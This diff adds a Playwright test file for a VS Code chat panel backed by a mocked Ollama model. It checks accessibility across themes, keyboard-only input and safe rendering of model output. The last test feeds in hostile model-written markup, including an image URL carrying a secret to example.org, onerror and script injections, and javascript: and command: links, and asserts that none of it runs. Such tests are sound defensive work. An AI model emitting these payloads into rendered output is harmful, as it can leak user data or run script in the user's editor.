@@ -1,0 +1,118 @@
+import { readFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import type axe from 'axe-core';
+import type { Frame, Page } from '@playwright/test';
+import { callTool, failWith, holdUntil, say, think } from '../support/ollama/chatStep';
+import { Gate } from '../support/ollama/gate';
+import { openChat } from '../support/workbench/chatPanel';
+import { expect, MODEL, test } from '../support/workbench/fixtures';
+import { openWorkbench, run } from '../support/workbench/workbench';
+
+/** What axe-core finds in the page of the panel, as lines. */
+async function violations(frame: Frame): Promise<readonly string[]> {
+  await frame.evaluate(await readFile(createRequire(__filename).resolve('axe-core/axe.min.js'), 'utf8'));
+  return frame.evaluate(async () => {
+    const { violations: found } = await (globalThis as unknown as { axe: typeof axe }).axe.run('.hf', {
+      runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'],
+      // Experimental, and wrong here: a row's name says as a sentence what the row shows in columns.
+      rules: { 'label-content-name-mismatch': { enabled: false } },
+    });
+    return found.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.html.slice(0, 200)}`));
+  });
+}
+
+/** The built-in kinds of theme, by their names in the picker. */
+const THEMES = ['Light Modern', 'Light High Contrast', 'Dark High Contrast', 'Dark Modern'];
+
+/** Chooses a colour theme as a person would, and waits until the panel's page has it. */
+async function chooseTheme(page: Page, frame: Frame, name: string): Promise<void> {
+  await run(page, 'Preferences: Color Theme');
+  const picker = page.locator('.quick-input-widget');
+  await picker.locator('input.input').fill(name);
+  await picker.locator('.monaco-list-row', { hasText: name }).first().click();
+  await expect(frame.locator('body')).toHaveAttribute('data-vscode-theme-name', name);
+}
+
+test.describe('The panel', () => {
+  test('has no barrier that axe finds, in any of the built-in kinds of theme', async ({
+    page,
+    server,
+    folder,
+    ollama,
+  }) => {
+    ollama.script(
+      think('Hm.'),
+      say('# Title\n\nA **word**, `code`, [a link](https://example.org).\n\n```ts\nconst a = 1;\n```\n'),
+      callTool('list_files', {}),
+    );
+    ollama.script(say('And then'), failWith('out of memory'));
+    await openWorkbench(page, server, folder);
+    const panel = await openChat(page);
+    await panel.ask('Show me everything');
+    await panel.waitForAnswer();
+    await (await panel.button(/^Listed/)).click();
+    await (await panel.button('Details')).click();
+    const frame = await panel.frame();
+    for (const theme of THEMES) {
+      await chooseTheme(page, frame, theme);
+      expect(await violations(frame), theme).toEqual([]);
+    }
+  });
+
+  test('is driven by the keyboard alone, and an Enter that ends an IME composition sends nothing', async ({
+    page,
+    server,
+    folder,
+    ollama,
+  }) => {
+    ollama.models.add('second:2b');
+    await openWorkbench(page, server, folder);
+    const panel = await openChat(page);
+    const message = await panel.message();
+    await message.focus();
+    await page.keyboard.type('first line');
+    await page.keyboard.press('Shift+Enter');
+    await page.keyboard.type('second line');
+    await expect(message).toHaveValue('first line\nsecond line');
+
+    await message.dispatchEvent('keydown', { key: 'Enter', isComposing: true });
+    await message.dispatchEvent('keydown', { key: 'Enter', keyCode: 229 });
+    await expect(message).toHaveValue('first line\nsecond line');
+    expect(ollama.chats).toHaveLength(0);
+
+    await page.keyboard.press('Control+Alt+.');
+    const list = (await panel.frame()).getByRole('listbox', { name: 'Model' });
+    await expect(list).toBeVisible();
+    await page.keyboard.press('Escape');
+    await expect(list).toBeHidden();
+    await expect(message).toHaveValue('first line\nsecond line');
+
+    ollama.script(say('Read.'), holdUntil(new Gate().opened));
+    await message.focus();
+    await page.keyboard.press('Enter');
+    await expect.poll(async () => (await panel.transcript()).at(-1)?.text ?? '').toContain('Read.');
+    expect((await panel.transcript())[0]?.text).toContain('first line\nsecond line');
+    await page.keyboard.press('Escape');
+    expect((await panel.waitForAnswer()).name).toMatch(/stopped$/);
+    expect((await ollama.nextChat()).chat.model).toBe(MODEL);
+    await page.keyboard.press('ArrowUp');
+    await expect(message).toHaveValue('first line\nsecond line');
+  });
+
+  test('runs and fetches nothing that a model writes', async ({ page, server, folder, ollama, workbench }) => {
+    ollama.script(
+      say(
+        '![x](https://example.org/?d=secret) <img src="https://example.org/i" onerror="document.title=1"> ',
+        '[a](javascript:alert(1)) [b](command:workbench.action.quit) <iframe srcdoc="x"></iframe>\n\n',
+        '```html"><script>document.title=1</script>\n<svg><image href="https://example.org/s"/></svg>\n```\n',
+      ),
+    );
+    await openWorkbench(page, server, folder);
+    const panel = await openChat(page);
+    await panel.ask('Attack');
+    await panel.waitForAnswer();
+    const log = (await panel.frame()).getByRole('log', { name: 'Conversation' });
+    expect(await log.locator('img, iframe, script, svg image, [href], [src], [onerror]').count()).toBe(0);
+    expect(workbench.blocked).toEqual([]);
+  });
+});
